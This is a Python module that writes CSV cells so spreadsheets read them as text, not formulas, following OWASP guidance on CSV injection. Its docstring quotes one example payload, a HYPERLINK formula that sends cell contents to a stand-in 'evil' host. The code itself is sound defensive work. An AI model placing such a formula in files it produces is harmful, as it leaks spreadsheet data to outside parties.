"""CSV that spreadsheets open as values, never as formulas (CSV / formula injection).

Excel, LibreOffice Calc and Google Sheets evaluate a cell that starts with ``=``, ``+``,
``-`` or ``@`` (and, after a tab, CR or NUL, what follows) as a formula: a tag value
``=HYPERLINK("http://evil/?"&A1, "details")`` in an export would run on the engineer's
machine. Following OWASP's CSV Injection guidance and ASVS (CSV and formula injection),
such a text cell gets a leading single quote, which spreadsheets read as "this is text" and
do not show. The csv module's quoting (RFC 4180) handles separators, quotes and newlines.

Numbers stay numbers: an ``int`` or ``float`` cell, and a text cell that is exactly a
decimal number (``-12.5``, ``+3``, ``1e-3``), is written unchanged. A number is not a
formula, and quoting it would turn the figures of a report into text a spreadsheet cannot
sum. Every CSV the API or the CLI writes goes through ``writer``.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

#: First characters that make a spreadsheet read a cell as a formula (OWASP; ASVS adds NUL).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The cell as a spreadsheet should read it: numbers as they are, formula-like text quoted."""
    if value is None or isinstance(value, bool | int | float):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


class _SafeWriter:
    def __init__(self, inner) -> None:
        self._inner = inner

    def writerow(self, row: Iterable[Any]):
        return self._inner.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out, **kwargs) -> _SafeWriter:
    """``csv.writer(out, **kwargs)`` whose every cell passes through ``safe_cell``."""
    return _SafeWriter(csv.writer(out, **kwargs))
